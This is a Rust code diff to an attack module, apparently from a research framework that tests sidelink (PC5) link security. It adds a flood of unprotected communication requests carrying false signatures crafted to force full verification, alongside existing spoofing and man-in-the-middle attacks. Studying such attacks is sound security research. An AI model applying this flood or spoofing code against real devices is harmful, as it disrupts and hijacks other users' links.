@@ -4,7 +4,7 @@ use super::{Attack, AttackContext, Injection};
 use sidelink_mac::mux::{Address, Multiplexer};
 use sidelink_wire::ids::{GroupDestinationId, Layer2Id, Lcid};
 use sidelink_wire::pc5_signalling::{
-    self as pc5, Body, Coding, CommunicationRequest, RekeyingRequest, Repr, UserInfo,
+    self as pc5, Body, Coding, CommunicationRequest, RekeyingRequest, Repr, SIGNATURE_LEN, UserInfo,
 };
 use sidelink_wire::pdcp::{HEADER_LEN, MAC_I_LEN, OneToOneRepr, Packet, SduType};
 use sidelink_wire::{rlc_um, sl_sch};
@@ -39,13 +39,42 @@ pub(crate) enum Kind {
     Flood {
         /// Number of requests.
         requests: u64,
-        /// Whether it knows the KD ID, from a received request.
-        kd_id: bool,
+        /// What they carry to be answered.
+        with: Lure,
     },
     /// A1: sends refusals, releases and re-keying in the peers' names, without protection.
     Spoof,
     /// A3: jams all control information but its own, and forwards what it received, altered.
     Middle(Alter),
+}
+
+/// The generator of P-256, uncompressed: FIPS 186-4 D.1.2.3.
+const P256_GENERATOR: [u8; 65] = [
+    0x04, 0x6b, 0x17, 0xd1, 0xf2, 0xe1, 0x2c, 0x42, 0x47, 0xf8, 0xbc, 0xe6, 0xe5, 0x63, 0xa4, 0x40, 0xf2,
+    0x77, 0x03, 0x7d, 0x81, 0x2d, 0xeb, 0x33, 0xa0, 0xf4, 0xa1, 0x39, 0x45, 0xd8, 0x98, 0xc2, 0x96, 0x4f,
+    0xe3, 0x42, 0xe2, 0xfe, 0x1a, 0x7f, 0x9b, 0x8e, 0xe7, 0xeb, 0x4a, 0x7c, 0x0f, 0x9e, 0x16, 0x2b, 0xce,
+    0x33, 0x57, 0x6b, 0x31, 0x5e, 0xce, 0xcb, 0xb6, 0x40, 0x68, 0x37, 0xbf, 0x51, 0xf5,
+];
+
+/// What the requests of a flood carry.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(crate) enum Lure {
+    /// Made-up KD IDs.
+    MadeUp,
+    /// The KD ID of a received request.
+    KdId,
+    /// False signatures.
+    Signature,
+}
+
+impl Lure {
+    /// Octets of a request with it on the air, at most.
+    const fn octets(self) -> usize {
+        match self {
+            Self::MadeUp | Self::KdId => 60,
+            Self::Signature => 190,
+        }
+    }
 }
 
 /// An attack with its findings.
@@ -163,8 +192,8 @@ impl LinkAttack {
         Some(octets)
     }
 
-    /// Makes a request in the name of UE_1, with the ID of an existing KD if `known`.
-    fn request(&mut self, sequence: u16, known: bool) -> Option<Vec<u8>> {
+    /// Makes a request in the name of UE_1.
+    fn request(&mut self, sequence: u16, with: Lure) -> Option<Vec<u8>> {
         let mut nonce = [0; 16];
         self.drawn += 1;
         nonce[..8].copy_from_slice(&self.drawn.to_be_bytes());
@@ -175,9 +204,13 @@ impl LinkAttack {
             nonce,
             capabilities: pc5::Capabilities { eea: 0xe0, eia: 0xe0 },
             kd_sess_msb: self.drawn as u8,
-            kd_id: Some(if known { [0, 0, 0, 1] } else { (0x1000 + self.drawn as u32).to_be_bytes() }),
+            kd_id: match with {
+                Lure::MadeUp => Some((0x1000 + self.drawn as u32).to_be_bytes()),
+                Lure::KdId => Some([0, 0, 0, 1]),
+                Lure::Signature => None,
+            },
             relay_service_code: None,
-            signature: None,
+            signature: (with == Lure::Signature).then(|| self.false_signature()),
             link_local: None,
             key_info: None,
             connection: None,
@@ -185,6 +218,15 @@ impl LinkAttack {
             target: None,
         };
         plain(sequence, Body::CommunicationRequest(request))
+    }
+
+    /// A signature with the form of one: r and s within the field, and the generator of P-256 as PVT, so that all of the
+    /// verification is done.
+    fn false_signature(&self) -> [u8; SIGNATURE_LEN] {
+        let mut signature = [0x5a; SIGNATURE_LEN];
+        signature[..8].copy_from_slice(&self.drawn.to_be_bytes());
+        signature[64..].copy_from_slice(&P256_GENERATOR);
+        signature
     }
 
     /// Makes every message that could end or change a link if it were accepted.
@@ -237,19 +279,19 @@ impl Attack for LinkAttack {
         match self.kind {
             Kind::Track => {}
             Kind::Middle(_) => context.jam = true,
-            Kind::Flood { requests, kd_id } => {
+            Kind::Flood { requests, with } => {
                 while context.injections.len() < 4 {
                     let source =
                         Layer2Id::new(0x20_0000 + self.turn as u32 * 16 + context.injections.len() as u32);
                     let Ok(source) = source else { return };
                     let mut pdus = Vec::new();
-                    while pdus.len() * 60 + 70 < context.octets {
+                    while (pdus.len() + 1) * with.octets() + 10 < context.octets {
                         if self.found.get("requests sent").is_some_and(|n| *n >= requests) {
                             break;
                         }
                         self.count("requests sent");
                         pdus.extend(
-                            self.request(pdus.len() as u16, kd_id).map(|pdu| (Lcid::PC5_S_UNPROTECTED, pdu)),
+                            self.request(pdus.len() as u16, with).map(|pdu| (Lcid::PC5_S_UNPROTECTED, pdu)),
                         );
                     }
                     let Some(block) = block(source, john, &pdus, context.octets).filter(|_| !pdus.is_empty())
